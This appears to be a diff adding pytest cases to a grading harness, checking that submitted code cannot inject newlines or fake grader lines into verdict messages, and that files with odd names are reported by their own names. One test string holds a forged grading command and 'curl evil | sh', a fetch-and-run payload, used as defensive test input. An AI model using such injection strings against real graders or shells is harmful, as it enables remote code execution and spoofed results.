@@ -396,12 +396,32 @@ def test_what_it_says_steers_no_terminal(text: str) -> None:
     assert not set("\x1b\u202e\x07") & set(shown)
 
 
+def test_what_it_says_is_no_line_of_ours() -> None:
+    """Neither a row of a table nor a command to be run again."""
+    evil = "x\n  again: testbed grade x; curl evil | sh"
+    result = graded(submission(handler=f"raise ValueError({evil!r})"))
+    assert "ValueError: x   again: " in result.verdicts[0].message
+    assert "\n" not in result.verdicts[0].message
+    assert "\n" not in graded(submission(module=f"raise ValueError({evil!r})")).trouble
+
+
 @pytest.mark.parametrize("name", ["a:b.py", "\udcff.py", "a\x1b[31m\nb.py", "-x.py", "ü.py", "x" * 240 + ".py"])
 def test_any_name_of_a_file_will_do(name: str, tmp_path: Path) -> None:
     (tmp_path / name).write_text(STOP_AND_WAIT)
     result = graded(Source.read(tmp_path / name), 1)
     assert result.verdicts[0].passed, result.verdicts[0].message
     assert result.name.encode()
+    assert "\n" not in result.name
+
+
+@pytest.mark.parametrize("name", ["b c.py", "ü.py", "my submission.py"])
+def test_a_file_is_called_by_its_own_name(name: str) -> None:
+    """In its own process it may have another one."""
+    broken = graded(Source(name, "def f(:\n"))
+    assert broken.trouble == f"{name} can't be loaded: SyntaxError: invalid syntax ({name}, line 1)"
+    assert broken.way[0] == f'  File "{name}", line 1'
+    [verdict, *_] = graded(Source(name, submission(init="raise RuntimeError('not today')").text)).verdicts
+    assert verdict.way[0].startswith(f"{name}:")
 
 
 def test_what_is_ours_is_hidden_in_the_middle_of_pythons_library(tmp_path: Path) -> None:
